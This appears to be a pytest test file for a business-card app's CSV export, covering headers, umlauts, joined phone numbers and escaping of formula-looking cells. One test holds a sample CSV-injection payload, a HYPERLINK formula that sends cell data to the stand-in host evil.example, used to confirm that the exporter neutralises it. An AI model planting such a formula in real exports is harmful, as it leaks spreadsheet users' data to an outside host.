"""Tests of the CSV export: fixed header, umlauts, joined phones, formula cells neutralised.

Golden file (tests/golden/): rich.csv is write_csv([rich_contact.json]) with its BOM.
After an intended change of the output, regenerate it and read the diff before committing:

    .venv/bin/python tests/test_export_csv.py
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cardscan.export import Format, open_writer
from cardscan.export.csvout import csv_row, neutralise_cell, restore_cell, write_csv
from cardscan.model import PHONE_TYPES, Contact, Phone
from tests import strategies

GOLDEN = Path(__file__).parent / "golden"

# Written out, not imported: the columns are a contract with users' spreadsheets.
HEADER = [
    "full_name",
    "prefix",
    "given",
    "family",
    "suffix",
    "title",
    "organization",
    "department",
    "phone_work",
    "phone_mobile",
    "phone_fax",
    "phone_other",
    "emails",
    "urls",
    "profiles",
    "street",
    "postal_code",
    "city",
    "region",
    "country",
    "source",
]


def rich() -> Contact:
    data = json.loads((GOLDEN / "rich_contact.json").read_text(encoding="utf-8"))
    return Contact.from_dict(data)


def to_csv(contacts: list[Contact], *, bom: bool = True) -> str:
    stream = io.StringIO(newline="")
    assert write_csv(contacts, stream, bom=bom) == len(contacts)
    return stream.getvalue()


def read_back(text: str) -> list[dict[str, str]]:
    """Rows as a program reads the file: BOM dropped, csv module, apostrophes restored."""
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, map(restore_cell, row), strict=True)) for row in rows[1:]]


def regenerate() -> None:
    (GOLDEN / "rich.csv").write_bytes(to_csv([rich()]).encode("utf-8"))


def test_rich_contact_matches_golden_file() -> None:
    assert to_csv([rich()]).encode("utf-8") == (GOLDEN / "rich.csv").read_bytes()


def test_header_is_exact_and_file_starts_with_a_bom() -> None:
    raw = to_csv([]).encode("utf-8")
    assert raw == b"\xef\xbb\xbf" + ",".join(HEADER).encode() + b"\r\n"


def test_without_bom() -> None:
    assert to_csv([], bom=False) == ",".join(HEADER) + "\r\n"


def test_rich_contact_reads_back_with_umlauts() -> None:
    (row,) = read_back(to_csv([rich()]))
    assert row == {
        "full_name": "Prof. Dr. Jürgen Weiß-Müller",
        "prefix": "Prof. Dr.",
        "given": "Jürgen",
        "family": "Weiß-Müller",
        "suffix": "",
        "title": "Geschäftsführer",
        "organization": "Müller & Söhne GmbH & Co. KG",
        "department": "Vertrieb Süd",
        "phone_work": "+49711123450 ext. 12",
        "phone_mobile": "+491701234567",
        "phone_fax": "+49711123459",
        "phone_other": "",
        "emails": "j.weiss-mueller@mueller-soehne.de",
        "urls": "https://www.mueller-soehne.de",
        "profiles": "https://www.linkedin.com/in/juergen-weiss-mueller; "
        "https://www.xing.com/profile/Juergen_WeissMueller",
        "street": "Königstraße 5",
        "postal_code": "70173",
        "city": "Stuttgart",
        "region": "",
        "country": "Deutschland",
        "source": "samples/weiss-mueller.jpg",
    }


def test_several_phones_of_one_kind_and_several_emails_are_joined() -> None:
    contact = Contact(
        source="s",
        phones=[
            Phone("+4930123456", "work"),
            Phone("+4930123457", "work", "99"),
            Phone("+4930123458", "other"),
        ],
        emails=["a@firma.de", "info@firma.de"],
        urls=["https://firma.de", "https://shop.firma.de"],
    )
    (row,) = read_back(to_csv([contact]))
    assert row["phone_work"] == "+4930123456 / +4930123457 ext. 99"
    assert row["phone_other"] == "+4930123458"
    assert row["phone_mobile"] == row["phone_fax"] == ""
    assert row["emails"] == "a@firma.de; info@firma.de"
    assert row["urls"] == "https://firma.de; https://shop.firma.de"


def test_formula_looking_organisation_is_neutralised() -> None:
    evil = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
    contact = Contact(source="s", organization=evil, title="  @SUM(A1:A9)")
    text = to_csv([contact])
    (row,) = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert row["organization"] == "'" + evil
    assert row["title"] == "'@SUM(A1:A9)"  # outer spaces dropped, then neutralised
    assert read_back(text)[0]["organization"] == evil


def test_phone_cells_carry_the_apostrophe_so_the_plus_survives() -> None:
    (row,) = csv.DictReader(io.StringIO(to_csv([rich()]).removeprefix("\ufeff"), newline=""))
    assert row["phone_mobile"] == "'+491701234567"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+49 711", "'+49 711"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("'quoted", "''quoted"),  # so restore_cell can always drop one apostrophe
        ("Müller = Chef", "Müller = Chef"),
        ("", ""),
    ],
)
def test_neutralise_cell(value: str, cell: str) -> None:
    assert neutralise_cell(value) == cell
    assert restore_cell(cell) == value


def test_control_characters_and_outer_space_are_removed() -> None:
    contact = Contact(source="s", organization=" Firma\x00 GmbH\t", title="Chef\r\nin")
    row = csv_row(contact)
    assert row[HEADER.index("organization")] == "Firma GmbH"
    assert row[HEADER.index("title")] == "Chef\nin"  # kept as one quoted cell


def test_contact_without_name_or_address_has_empty_cells() -> None:
    row = csv_row(Contact(source="a.jpg", organization="Firma"))
    assert row == [""] * 6 + ["Firma"] + [""] * 13 + ["a.jpg"]


def test_streaming_writer_gives_the_same_file() -> None:
    contacts = [rich(), Contact(source="b.jpg", organization="Firma")]
    stream = io.StringIO(newline="")
    with open_writer(Format.csv, stream) as writer:
        for contact in contacts:
            writer.write(contact)
    assert stream.getvalue() == to_csv(contacts)


# --- arbitrary text -----------------------------------------------------------------------------

text = st.text(max_size=60)
contacts = strategies.contacts(60)
clean = strategies.clean


@settings(max_examples=300, deadline=None)
@given(st.lists(contacts, max_size=3))
def test_any_text_round_trips_through_csv_reader(contacts_: list[Contact]) -> None:
    rows = read_back(to_csv(contacts_))
    assert len(rows) == len(contacts_)
    for contact, row in zip(contacts_, rows, strict=True):
        assert row["full_name"] == clean(contact.name.full if contact.name else None)
        assert row["title"] == clean(contact.title)
        assert row["organization"] == clean(contact.organization)
        assert row["department"] == clean(contact.department)
        assert row["emails"] == clean("; ".join(contact.emails))
        assert row["street"] == clean(contact.address.street if contact.address else None)
        assert row["source"] == clean(contact.source)
        for kind in PHONE_TYPES:
            numbers = [
                p.number + (f" ext. {p.extension}" if p.extension else "")
                for p in contact.phones
                if p.type == kind
            ]
            assert row[f"phone_{kind}"] == clean(" / ".join(numbers))
        for cell in csv_row(contact):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@given(st.text())
def test_restore_cell_undoes_neutralise_cell(value: str) -> None:
    cell = neutralise_cell(value)
    assert restore_cell(cell) == value
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


if __name__ == "__main__":
    regenerate()
    print(f"regenerated the CSV golden file in {GOLDEN}")
